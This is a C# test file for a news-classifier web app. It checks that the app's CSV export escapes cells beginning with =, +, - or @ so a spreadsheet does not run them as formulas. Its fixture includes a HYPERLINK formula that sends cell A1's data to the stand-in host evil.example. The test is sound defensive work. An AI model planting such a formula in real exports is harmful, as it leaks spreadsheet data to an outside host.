using NewsClassifier.Application.Imports;

namespace NewsClassifier.Web.Tests.Hosting;

/// <summary>A dataset export opened in a spreadsheet must not run an article's title as a formula.</summary>
public class CsvExportTests(NewsAppFactory app) : IClassFixture<NewsAppFactory>
{
    [Fact]
    public async Task Cells_that_start_like_a_formula_are_exported_with_a_leading_apostrophe()
    {
        var path = Path.Combine(app.DataDirectory, "hostile.csv");
        await File.WriteAllTextAsync(path,
            "label,title,text\n" +
            "World,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",plain text\n" +
            "World,+1 for the team,-5 degrees tonight\n" +
            "Sports,@SUM(A1:A9),=1+1\n" +
            "Sports,Ordinary title,\"Text, with a comma\"\n");
        using (var scope = app.Services.CreateScope())
        {
            var result = await scope.ServiceProvider.GetRequiredService<DatasetImporter>()
                .ImportAsync(new ImportRequest(path, "hostile", new ImportSpec(), path), null, CancellationToken.None);
            Assert.True(result.Succeeded, result.Message);
            using var client = await app.ClientAsync(AppRoles.Viewer);

            using var response = await client.GetAsync($"/api/datasets/{result.DatasetId}/export?format=csv");

            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var lines = (await response.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
            Assert.Equal(
            [
                "label,title,text",
                "World,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",plain text",
                "World,'+1 for the team,'-5 degrees tonight",
                "Sports,'@SUM(A1:A9),'=1+1",
                "Sports,Ordinary title,\"Text, with a comma\"",
            ], lines);
        }
    }
}
